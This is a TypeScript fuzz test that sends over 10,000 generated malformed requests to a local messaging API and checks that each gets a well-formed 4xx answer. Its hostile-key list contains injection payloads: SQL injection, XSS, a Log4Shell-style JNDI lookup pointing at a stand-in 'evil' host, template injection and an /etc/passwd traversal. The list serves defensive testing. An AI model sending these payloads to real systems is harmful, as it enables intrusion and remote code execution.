/**
 * Abuse tests (issue 6, section 2): over 10,000 generated bad requests against the local platform
 * over real HTTP. Every answer must be a 4xx application/problem+json document with the rate-limit
 * headers; never a 5xx; never a 2xx for a bad request; and the process must not crash.
 *
 * Requests are generated with fast-check from a fixed seed, so every run sends the same traffic.
 * They are sent with `node:http` (not fetch) so that any method, duplicate or odd-case header and
 * raw body bytes can be sent.
 *
 * Bodies go up to ~1 MiB, above our 256 KiB limit (answered by the handler with 413). Bodies over
 * API Gateway's 10 MB payload limit are answered by API Gateway itself (the REQUEST_TOO_LARGE
 * gateway response, without rate-limit headers); they are not generated here.
 */
import { Agent, request } from 'node:http';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { many, startTestPlatform, type TestPlatform } from '../support/platform.js';

const SEED = 20261121;
const BATCH = 400;
const DAY_MS = 86_400_000;

/** One generated request: raw header pairs (duplicates and any name case allowed) and raw body bytes. */
interface Spec {
  readonly category: string;
  readonly method: string;
  readonly path: string;
  readonly headers: ReadonlyArray<readonly [string, string]>;
  readonly body?: Buffer;
  /** Short description of what makes it bad, for reports. */
  readonly note: string;
}

interface Outcome {
  readonly status: number;
  readonly headers: Record<string, string | string[] | undefined>;
  readonly text: string;
}

let platform: TestPlatform;
let agent: Agent;
let host: string;
let port: number;
const failures: unknown[] = [];
const onRejection = (reason: unknown) => failures.push({ unhandledRejection: String(reason) });
const onException = (error: unknown) => failures.push({ uncaughtException: String(error) });
const consoleErrors: string[] = [];
const originalConsoleError = console.error;

beforeAll(async () => {
  process.on('unhandledRejection', onRejection);
  process.on('uncaughtException', onException);
  console.error = (...args: unknown[]) => {
    consoleErrors.push(args.map((a) => (a instanceof Error ? a.message : String(a))).join(' ').slice(0, 300));
    originalConsoleError(...args);
  };
  platform = await startTestPlatform({ worker: false });
  const url = new URL(platform.baseUrl);
  host = url.host;
  port = Number(url.port);
  agent = new Agent({ keepAlive: true, maxSockets: 16 });
}, 60_000);

afterAll(async () => {
  agent?.destroy();
  await platform?.stop();
  console.error = originalConsoleError;
  process.off('unhandledRejection', onRejection);
  process.off('uncaughtException', onException);
});

function send(spec: Spec): Promise<Outcome> {
  const flat: string[] = [];
  for (const [k, v] of spec.headers) flat.push(k, v);
  flat.push('Host', host);
  if (spec.body !== undefined) flat.push('Content-Length', String(spec.body.length));
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port, method: spec.method, path: spec.path, headers: flat, agent }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () =>
        resolve({ status: res.statusCode ?? 0, headers: res.headers, text: Buffer.concat(chunks).toString('utf8') }),
      );
      res.on('error', reject);
    });
    req.on('error', reject);
    req.end(spec.body);
  });
}

// ---------------------------------------------------------------------------------------------
// Generators
// ---------------------------------------------------------------------------------------------

type KeyRef = 'none' | 'free' | 'pro' | 'business' | 'enterprise';
/** Key references are resolved after the platform started (demo keys are random per run). */
const keyRef = fc.constantFrom<KeyRef>('none', 'free', 'pro', 'business', 'enterprise');

const latin1OfUtf8 = (s: string) => Buffer.from(s, 'utf8').toString('latin1');
const json = (v: unknown) => Buffer.from(JSON.stringify(v), 'utf8');

/** Bodies that are never a valid send request. */
const badBody: fc.Arbitrary<{ body: Buffer; note: string }> = fc.oneof(
  // malformed JSON text
  fc.string({ maxLength: 200 }).filter((s) => !s.trim().startsWith('{')).map((s) => ({ body: Buffer.from(s), note: 'text' })),
  // truncated JSON: a valid send body cut short
  fc
    .tuple(fc.string({ minLength: 1, maxLength: 100 }), fc.nat())
    .map(([m, n]) => {
      const full = JSON.stringify({ message: m });
      const cut = full.slice(0, n % full.length);
      return { body: Buffer.from(cut), note: `truncated@${cut.length}` };
    }),
  // JSON that is not an object
  fc.oneof(fc.jsonValue().filter((v) => typeof v !== 'object' || v === null || Array.isArray(v)))
    .map((v) => ({ body: json(v), note: 'non-object JSON' })),
  // wrong fields
  fc
    .oneof(
      fc.record({ message: fc.oneof(fc.integer(), fc.boolean(), fc.constant(null), fc.array(fc.string()), fc.constant('')) }),
      fc.record({ msg: fc.string() }),
      fc.record({ message: fc.string({ minLength: 1 }), extra: fc.jsonValue() }),
      fc.constant({}),
      fc.dictionary(fc.string({ minLength: 1, maxLength: 8 }).filter((k) => k !== 'message'), fc.jsonValue(), { minKeys: 1, maxKeys: 5 }),
    )
    .map((v) => ({ body: json(v), note: `fields ${JSON.stringify(v).slice(0, 60)}` })),
  fc.constantFrom(
    { body: Buffer.from('{"message":"x","__proto__":{"admin":true}}'), note: '__proto__ key' },
    { body: Buffer.from('{"message":"x","message":"y","constructor":1}'), note: 'constructor key' },
    { body: Buffer.from('\uFEFF{"message":"bom"}'), note: 'BOM then JSON' },
    { body: Buffer.from('{"message":"x"} {"message":"y"}'), note: 'two documents' },
    { body: Buffer.from('{"message":"x",}'), note: 'trailing comma' },
    { body: Buffer.from('{\'message\':\'x\'}'), note: 'single quotes' },
    { body: Buffer.from('{"message":NaN}'), note: 'NaN' },
    { body: Buffer.from('   \n\t  '), note: 'whitespace only' },
    { body: Buffer.alloc(0), note: 'empty body' },
  ),
  // invalid UTF-8 bytes inside otherwise JSON-looking bodies
  fc
    .tuple(
      fc.constantFrom(
        [0xff],
        [0xc0, 0xaf],
        [0xed, 0xa0, 0x80],
        [0x80],
        [0xe2, 0x82],
        [0xf8, 0x88, 0x80, 0x80, 0x80],
        [0xfe, 0xff],
      ),
      fc.uint8Array({ maxLength: 40 }),
    )
    .map(([bad, extra]) => ({
      body: Buffer.concat([Buffer.from('{"message":"'), Buffer.from(bad), Buffer.from(extra), Buffer.from('"}')]),
      note: `invalid UTF-8 ${Buffer.from(bad).toString('hex')}`,
    })),
  fc.uint8Array({ minLength: 1, maxLength: 300 }).map((b) => ({ body: Buffer.from(b), note: 'random bytes' })),
);

/** Rare, expensive bodies: huge (300 KiB to 1 MiB) and deeply nested (up to 100k levels). */
const heavyBody: fc.Arbitrary<{ body: Buffer; note: string }> = fc.oneof(
  fc.integer({ min: 300 * 1024, max: 1024 * 1024 }).map((n) => ({
    body: Buffer.from(JSON.stringify({ message: 'a'.repeat(n) })),
    note: `huge valid-shaped body ${n} B`,
  })),
  fc.integer({ min: 300 * 1024, max: 1024 * 1024 }).map((n) => ({ body: Buffer.alloc(n, 0x7b), note: `huge garbage ${n} B` })),
  fc.integer({ min: 300 * 1024, max: 1024 * 1024 }).map((n) => ({
    body: Buffer.concat([Buffer.from('{"message":"'), Buffer.alloc(n, 0xff), Buffer.from('"}')]),
    note: `huge invalid UTF-8 ${n} B`,
  })),
  fc.integer({ min: 1_000, max: 100_000 }).map((d) => ({ body: Buffer.from('['.repeat(d) + ']'.repeat(d)), note: `nested arrays ${d}` })),
  fc.integer({ min: 1_000, max: 100_000 }).map((d) => ({ body: Buffer.from('{"message":' + '['.repeat(d) + ']'.repeat(d) + '}'), note: `nested message ${d}` })),
  fc.integer({ min: 1_000, max: 100_000 }).map((d) => ({ body: Buffer.from('{"a":'.repeat(d) + '1' + '}'.repeat(d)), note: `nested objects ${d}` })),
  fc.integer({ min: 1_000, max: 100_000 }).map((d) => ({ body: Buffer.from('['.repeat(d)), note: `unclosed nesting ${d}` })),
);

const jsonType = fc.constantFrom(
  'application/json',
  'APPLICATION/JSON',
  'application/json; charset=utf-8',
  'Application/Json;charset="utf-8"',
  'application/json; foo=bar',
);
const badType = fc.oneof(
  fc.constantFrom(
    'text/plain',
    'application/json; charset=latin1',
    'application/json; charset=utf-16',
    'application/json-patch+json',
    'application/problem+json',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=----x',
    'application/jsonx',
    'json',
    '',
    '*/*',
    'application/*',
    ';;;',
    'application /json',
    '\tapplication/json\t;\tcharset=ascii',
    latin1OfUtf8('application/jsön'),
  ),
  fc.stringMatching(/^[\x20-\x7e]{0,60}$/).filter((s) => !s.trim().toLowerCase().startsWith('application/json')),
);

// Not generated: methods Node's HTTP parser does not know (e.g. `FOO`). The local front's parser
// answers them with a bare `400` (no body, no headers) before any platform code runs; on AWS,
// API Gateway answers them itself.
const method = fc.constantFrom('PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD', 'GET', 'POST', 'TRACE');
const pathChar = fc.constantFrom(...'abcXYZ019-._~!$&\'()*+,;=:@'.split(''), '%20', '%2F', '%00', '%ZZ', '%', '%E2%82%AC', '%C0%AF', '%FF');
const segment = fc.array(pathChar, { minLength: 1, maxLength: 20 }).map((a) => a.join(''));
const oddPath = fc.oneof(
  fc.array(segment, { minLength: 1, maxLength: 6 }).map((s) => `/${s.join('/')}`),
  segment.map((s) => `/messages/${s}`),
  segment.map((s) => `/messages/${s}/extra`),
  fc.constantFrom(
    '/',
    '/messages/',
    '//messages',
    '/Messages',
    '/MESSAGES',
    '/messages/../messages',
    '/v1/messages',
    '/messages%2F',
    '/messages?message=x',
    '/messages/%',
    '/messages/%ZZ',
    '/messages/%E0%A4%A',
    '/messages/..',
    '/messages/msg_',
    '/%6Dessages',
  ),
  fc.integer({ min: 500, max: 8_000 }).map((n) => `/messages/${'x'.repeat(n)}`),
  fc.integer({ min: 100, max: 1_500 }).map((n) => '/a'.repeat(n)),
);

/** Key strings that are never a valid key. */
const hostileKey = (demo: readonly string[]) =>
  fc.oneof(
    // Control characters other than tab are refused by HTTP itself (Node's client will not send them).
    fc.string({ maxLength: 80 }).map((s) => latin1OfUtf8([...s].filter((c) => c === '\t' || (c >= ' ' && c !== '\x7f')).join(''))),
    fc.constantFrom(
      '\' OR \'1\'=\'1',
      'sk_live_\'; DROP TABLE keys; --',
      '<script>alert(1)</script>',
      '${jndi:ldap://evil/x}',
      '{{7*7}}',
      '../../etc/passwd',
      'null',
      'undefined',
      '[object Object]',
      'sk_live_',
      'sk_test_000000000000000000000000000000000000',
      latin1OfUtf8('sk_live_ünïcödé🔑'),
      'sk_live_\t',
      'a\tb',
    ),
    fc.integer({ min: 1_000, max: 8_000 }).map((n) => `sk_live_${'A'.repeat(n)}`),
    fc.stringMatching(/^[0-9A-Za-z]{36}$/).map((s) => `sk_live_${s}`),
    // near-valid: a demo key with one character of its body or checksum changed
    fc.tuple(fc.constantFrom(...demo), fc.nat(), fc.constantFrom(...'0aZz9Q'.split(''))).map(([k, i, c]) => {
      const at = 8 + (i % (k.length - 8));
      const swapped = k[at] === c ? (c === '0' ? '1' : '0') : c;
      return k.slice(0, at) + swapped + k.slice(at + 1);
    }),
    fc.constantFrom(...demo).map((k) => k.toUpperCase()),
    fc.constantFrom(...demo).map((k) => `${k}x`),
    fc.constantFrom(...demo).map((k) => k.slice(0, -1)),
  );

// ---------------------------------------------------------------------------------------------
// The request classifier: is a generated request, read as the platform reads it, a valid send?
// ---------------------------------------------------------------------------------------------

/**
 * A header as the handlers read it: the front keeps the last value per exact raw name, and the
 * handlers take the first name that matches case-insensitively (so `Authorization` then
 * `authorization` resolves to the first, while two `Authorization` lines resolve to the last).
 */
function platformHeader(spec: Spec, name: string): string | undefined {
  const byRawName = new Map<string, string>();
  for (const [k, v] of spec.headers) byRawName.set(k, v.replace(/^[ \t]+|[ \t]+$/g, ''));
  for (const [k, v] of byRawName) if (k.toLowerCase() === name) return v;
  return undefined;
}

/** A read of the message log (GET /messages, any query: unknown parameters are ignored) with a demo key. */
function isValidList(spec: Spec, demo: readonly string[]): boolean {
  const url = new URL(spec.path, 'http://localhost');
  const segments = url.pathname.split('/').filter(Boolean);
  if (spec.method !== 'GET' || segments.length !== 1 || segments[0] !== 'messages') return false;
  const token = /^Bearer +([^\s]+) *$/i.exec(platformHeader(spec, 'authorization') ?? '')?.[1];
  return token !== undefined && demo.includes(token);
}

function isValidSend(spec: Spec, demo: readonly string[]): boolean {
  // The front matches routes on the normalised path, ignoring empty segments and the query.
  const segments = new URL(spec.path, 'http://localhost').pathname.split('/').filter(Boolean);
  if (spec.method !== 'POST' || segments.length !== 1 || segments[0] !== 'messages') return false;
  const token = /^Bearer +([^\s]+) *$/i.exec(platformHeader(spec, 'authorization') ?? '')?.[1];
  if (!token || !demo.includes(token)) return false;
  const ct = platformHeader(spec, 'content-type');
  if (!ct) return false;
  const [type, ...params] = ct.split(';');
  if (type?.trim().toLowerCase() !== 'application/json') return false;
  if (!params.every((p) => {
    const [k, v] = p.split('=').map((s) => s.trim().toLowerCase());
    return k !== 'charset' || v === 'utf-8' || v === 'utf8' || v === '"utf-8"';
  })) return false;
  const idem = platformHeader(spec, 'idempotency-key');
  if (idem !== undefined && !/^[\x21-\x7e]{1,255}$/.test(idem)) return false;
  const body = spec.body ?? Buffer.alloc(0);
  if (body.length > 256 * 1024) return false;
  try {
    const parsed: unknown = JSON.parse(new TextDecoder('utf-8', { fatal: true }).decode(body));
    if (typeof parsed !== 'object' || parsed === null || Array.isArray(parsed)) return false;
    const keys = Object.keys(parsed);
    const message = (parsed as { message?: unknown }).message;
    return keys.length === 1 && keys[0] === 'message' && typeof message === 'string' && message !== '';
  } catch {
    return false;
  }
}

// ---------------------------------------------------------------------------------------------

function generate(keys: Record<KeyRef, string | undefined>): Spec[] {
  const demo = (['free', 'pro', 'business', 'enterprise'] as const).map((p) => keys[p] as string);
  const auth = (ref: KeyRef): Array<[string, string]> => (keys[ref] ? [['Authorization', `Bearer ${keys[ref]}`]] : []);
  const sample = <T>(arb: fc.Arbitrary<T>, numRuns: number, salt: number) =>
    fc.sample(arb, { seed: SEED + salt, numRuns });

  // 1. Authorization permutations, always with a bad body (or a valid one and a bad scheme/key).
  const authCase = fc
    .tuple(
      keyRef,
      hostileKey(demo),
      fc.constantFrom('Authorization', 'authorization', 'AUTHORIZATION', 'aUtHoRiZaTiOn', 'X-Api-Key', 'Authorisation'),
      fc.constantFrom(
        'missing',
        'Bearer',
        'bearer',
        'BEARER',
        'Basic',
        'Token',
        'ApiKey',
        'Bearer-no-space',
        'scheme-only',
        'double-space',
        'tab',
        'trailing-junk',
        'duplicate-valid-first',
        'duplicate-valid-last',
        'empty',
      ),
      badBody,
      jsonType,
    )
    .map(([ref, hostile, name, scheme, { body, note }, ct]): Spec => {
      const key = keys[ref] ?? hostile;
      const value: Record<string, Array<[string, string]>> = {
        missing: [],
        Bearer: [[name, `Bearer ${key}`]],
        bearer: [[name, `bearer ${key}`]],
        BEARER: [[name, `BEARER ${key}`]],
        Basic: [[name, `Basic ${Buffer.from(`${key}:`).toString('base64')}`]],
        Token: [[name, `Token ${key}`]],
        ApiKey: [[name, `ApiKey ${key}`]],
        'Bearer-no-space': [[name, `Bearer${key}`]],
        'scheme-only': [[name, 'Bearer']],
        'double-space': [[name, `Bearer  ${key}`]],
        tab: [[name, `Bearer\t${key}`]],
        'trailing-junk': [[name, `Bearer ${key} extra`]],
        'duplicate-valid-first': [[name, `Bearer ${demo[0]}`], [name.toLowerCase(), `Bearer ${hostile}`]],
        'duplicate-valid-last': [[name, `Bearer ${hostile}`], [name.toUpperCase(), `Bearer ${demo[1]}`]],
        empty: [[name, '']],
      };
      return {
        category: 'auth',
        method: 'POST',
        path: '/messages',
        headers: [...(value[scheme] ?? []), ['Content-Type', ct]],
        body,
        note: `${name}: ${scheme} (${ref}); body ${note}`,
      };
    });

  // 2. Content-Type variants: a valid-looking type with a bad body, or a bad type with any body.
  const ctCase = fc
    .tuple(
      keyRef,
      fc.oneof(
        fc.tuple(fc.array(jsonType, { minLength: 1, maxLength: 2 }), badBody),
        fc.tuple(fc.array(badType, { maxLength: 3 }), fc.oneof(badBody, fc.constant({ body: json({ message: 'Hello' }), note: 'valid body' }))),
      ),
      fc.constantFrom('Content-Type', 'content-type', 'CONTENT-TYPE', 'Content-type'),
      fc.option(fc.oneof(fc.constant(''), fc.constant('x'.repeat(300)), fc.constant('a b'), fc.stringMatching(/^[\x21-\x7e]{1,40}$/)), { freq: 4 }),
    )
    .map(([ref, [types, { body, note }], name, idem]): Spec => ({
      category: 'content-type',
      method: 'POST',
      path: '/messages',
      headers: [
        ...auth(ref),
        ...types.map((t): [string, string] => [name, t]),
        ...(idem === null ? [] : [['Idempotency-Key', idem] as [string, string]]),
      ],
      body,
      note: `${ref}; Content-Type ${JSON.stringify(types)}; idem ${JSON.stringify(idem)}; body ${note}`,
    }));

  // 3. Malformed, truncated, non-UTF-8 and wrongly shaped bodies.
  const bodyCase = fc.tuple(keyRef, badBody, jsonType).map(([ref, { body, note }, ct]): Spec => ({
    category: 'body',
    method: 'POST',
    path: '/messages',
    headers: [...auth(ref), ['Content-Type', ct]],
    body,
    note: `${ref}; ${ct}; body ${note}`,
  }));

  // 4. Huge and deeply nested bodies (few: each is up to 1 MiB).
  const heavyCase = fc.tuple(keyRef, heavyBody).map(([ref, { body, note }]): Spec => ({
    category: 'heavy',
    method: 'POST',
    path: '/messages',
    headers: [...auth(ref), ['Content-Type', 'application/json']],
    body,
    note: `${ref}; ${note}`,
  }));

  // 5. Wrong methods on the two resources.
  const methodCase = fc
    .tuple(
      keyRef,
      fc.constantFrom('PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD'),
      fc.constantFrom('/messages', '/messages/msg_01J00000000000000000000000', '/messages/nope'),
      fc.option(badBody),
    )
    .map(([ref, m, path, b]): Spec => ({
      category: 'method',
      method: m,
      path,
      headers: [...auth(ref), ...(b ? [['Content-Type', 'application/json'] as [string, string]] : [])],
      ...(b ? { body: b.body } : {}),
      note: `${ref}; ${m} ${path}`,
    }));
  // GET /messages/batch and POST /messages/{id} are wrong too (GET /messages is the message log).
  const crossCase = fc
    .tuple(keyRef, fc.constantFrom(['GET', '/messages/batch'], ['POST', '/messages/msg_x'], ['GET', '/messages/msg_01J00000000000000000000000']))
    .map(([ref, [m, path]]): Spec => ({
      category: 'method',
      method: m as string,
      path: path as string,
      headers: [...auth(ref), ...(m === 'POST' ? [['Content-Type', 'application/json'] as [string, string]] : [])],
      ...(m === 'POST' ? { body: json({ message: 'Hello' }) } : {}),
      note: `${ref}; ${m} ${path}`,
    }));

  // 6. Odd paths with any method.
  const pathCase = fc.tuple(keyRef, method, oddPath).map(([ref, m, path]): Spec => ({
    category: 'path',
    method: m,
    path,
    headers: [...auth(ref), ['Content-Type', 'application/json']],
    ...(m === 'POST' || m === 'PUT' || m === 'PATCH' ? { body: json({ message: 'Hello' }) } : {}),
    note: `${ref}; ${m} ${path.length > 120 ? `${path.slice(0, 60)}… (${path.length} chars)` : path}`,
  }));

  // 7. Hostile API-key strings, with a valid body (the key alone makes them bad).
  const keyCase = fc
    .tuple(hostileKey(demo), fc.constantFrom('Bearer ', 'bearer ', 'Bearer  '), fc.constantFrom('/messages', '/messages/msg_x'))
    .map(([key, scheme, path]): Spec => ({
      category: 'hostile-key',
      method: path === '/messages' ? 'POST' : 'GET',
      path,
      headers: [['Authorization', `${scheme}${key}`], ['Content-Type', 'application/json']],
      ...(path === '/messages' ? { body: json({ message: 'Hello' }) } : {}),
      note: `key ${JSON.stringify(key.length > 80 ? `${key.slice(0, 40)}… (${key.length} chars)` : key)} on ${path}`,
    }));

  const groups = [
    sample(authCase, 1_700, 1),
    sample(ctCase, 1_600, 2),
    sample(bodyCase, 1_850, 3),
    sample(heavyCase, 30, 4),
    sample(methodCase, 1_500, 5),
    sample(crossCase, 300, 6),
    sample(pathCase, 1_500, 7),
    sample(keyCase, 1_550, 8),
  ];
  // Interleave the groups so every batch mixes kinds and keys.
  const out: Spec[] = [];
  const longest = Math.max(...groups.map((g) => g.length));
  for (let i = 0; i < longest; i++) for (const g of groups) if (i < g.length) out.push(g[i] as Spec);
  return out;
}

// ---------------------------------------------------------------------------------------------
// Known gateway-level answers (no X-Request-Id: the local front's own, as API Gateway's would be).
// Each is listed with the exact inputs that produce it; any other gateway-level answer fails.
// ---------------------------------------------------------------------------------------------

// Gateway-level answers the traffic may meet by design; none since the local front passes
// malformed percent-encoding on to the route (GET /messages/%ZZ is a 404 with headers).
interface KnownGatewayAnswer {
  readonly name: string;
  readonly status: number;
  readonly code: string;
  readonly matches: (spec: Spec) => boolean;
}
const KNOWN_GATEWAY_ANSWERS: readonly KnownGatewayAnswer[] = [];

const isInteger = (v: unknown) => typeof v === 'string' && /^\d+$/.test(v);

describe('abuse: generated bad requests', () => {
  it('answers every one with a 4xx problem+json carrying the rate-limit headers, and keeps serving', async () => {
    const keys: Record<KeyRef, string | undefined> = { none: undefined, ...platform.demoKeys };
    const demo = Object.values(platform.demoKeys);
    const specs = generate(keys);
    expect(specs.length).toBeGreaterThanOrEqual(10_000);

    const histogram = new Map<number, number>();
    const problems: string[] = [];
    const gatewayAnswers: Array<{ status: number; code: unknown; spec: string }> = [];
    const knownHits = new Map<string, number>();
    let validSent = 0;
    const started = performance.now();

    for (let start = 0; start < specs.length; start += BATCH) {
      const batch = specs.slice(start, start + BATCH);
      // Per-minute budgets reset between batches; every 8 batches a new day (usage-plan quotas).
      platform.clock.advance(start > 0 && (start / BATCH) % 8 === 0 ? DAY_MS : 60_000);
      await many(batch.length, 16, async (i) => {
        const spec = batch[i] as Spec;
        const valid = isValidSend(spec, demo);
        if (valid) validSent++;
        // The generated odd paths reach the message log too (GET /messages/, /messages/../messages).
        const listing = isValidList(spec, demo);
        const where = `${spec.category} #${start + i}: ${spec.method} ${spec.note}`;
        let out: Outcome;
        try {
          out = await send(spec);
        } catch (error) {
          problems.push(`${where}: transport error ${(error as Error).message}`);
          return;
        }
        histogram.set(out.status, (histogram.get(out.status) ?? 0) + 1);
        const fromGateway = out.headers['x-request-id'] === undefined;
        let body: Record<string, unknown> | undefined;
        if (spec.method !== 'HEAD') {
          try {
            body = JSON.parse(out.text) as Record<string, unknown>;
          } catch {
            problems.push(`${where}: body is not JSON: ${out.status} ${out.text.slice(0, 80)}`);
          }
        }
        const known = KNOWN_GATEWAY_ANSWERS.find((k) => k.matches(spec));
        if (known) {
          knownHits.set(known.name, (knownHits.get(known.name) ?? 0) + 1);
          if (!fromGateway || out.status !== known.status || body?.code !== known.code) {
            problems.push(`${where}: expected the known answer "${known.name}", got ${out.status} ${out.text.slice(0, 80)}`);
          }
        } else if (fromGateway) {
          gatewayAnswers.push({ status: out.status, code: body?.code, spec: where });
        }

        const ok4xx = out.status >= 400 && out.status < 500;
        const listed = listing && out.status === 200;
        if (listed && !Array.isArray(body?.data)) problems.push(`${where}: a 200 of the message log without its data: ${out.text.slice(0, 80)}`);
        if (!known && !(ok4xx || listed || (valid && (out.status === 202 || out.status === 429)))) {
          problems.push(`${where}: status ${out.status} ${out.text.slice(0, 120)}`);
        }
        const ct = String(out.headers['content-type'] ?? '');
        if (out.status !== 202 && !listed && !ct.startsWith('application/problem+json')) {
          problems.push(`${where}: content-type ${JSON.stringify(ct)} for ${out.status}`);
        }
        if (spec.method !== 'HEAD' && body !== undefined && out.status !== 202 && !listed) {
          if (typeof body.type !== 'string' || typeof body.title !== 'string' || typeof body.code !== 'string' || body.status !== out.status) {
            problems.push(`${where}: not a problem document: ${out.text.slice(0, 120)}`);
          }
        }
        if (!fromGateway) {
          for (const h of ['x-ratelimit-limit', 'x-ratelimit-remaining', 'x-ratelimit-reset']) {
            if (!isInteger(out.headers[h])) problems.push(`${where}: ${h} is ${JSON.stringify(out.headers[h])} (${out.status})`);
          }
        }
      });
    }
    const seconds = (performance.now() - started) / 1000;

    // Still serving: a valid request is accepted.
    platform.clock.advance(DAY_MS);
    const check = await send({
      category: 'valid',
      method: 'POST',
      path: '/messages',
      headers: [['Authorization', `Bearer ${platform.demoKeys.pro}`], ['Content-Type', 'application/json']],
      body: json({ message: 'still alive' }),
      note: 'valid',
    });

    const sortedHistogram = Object.fromEntries([...histogram.entries()].sort(([a], [b]) => a - b));
    console.log(
      `abuse: ${specs.length} requests (${validSent} classified valid) in ${seconds.toFixed(1)} s, ` +
      `${(specs.length / seconds).toFixed(0)} req/s; statuses ${JSON.stringify(sortedHistogram)}; ` +
      `gateway-level answers ${gatewayAnswers.length}`,
    );
    for (const [name, n] of knownHits) console.log(`known gateway-level answer (${n}×): ${name}`);
    for (const g of gatewayAnswers.slice(0, 50)) console.log(`gateway answer ${g.status} ${String(g.code)}: ${g.spec}`);
    for (const p of problems.slice(0, 50)) console.log(`problem: ${p}`);
    const platformErrors = consoleErrors.filter(
      (e) => /gateway error|handler failed|authorizer failed/.test(e),
    );
    for (const e of platformErrors.slice(0, 20)) console.log(`console.error: ${e}`);

    expect(check.status, check.text).toBe(202);
    expect(failures).toEqual([]);
    expect(problems.slice(0, 20)).toEqual([]);
    // Gateway-level answers (no X-Request-Id, so no rate-limit headers) would be API Gateway's own:
    // the traffic above is sized so that none of the usage-plan backstops or the 10 MB limit is met.
    expect(gatewayAnswers.map((g) => `${g.status} ${String(g.code)}: ${g.spec}`).slice(0, 20)).toEqual([]);
    expect(platformErrors).toEqual([]);
    // The known cases are a small minority of the traffic.
    const knownTotal = [...knownHits.values()].reduce((a, b) => a + b, 0);
    expect(knownTotal).toBeLessThan(specs.length / 100);
  }, 150_000);
});
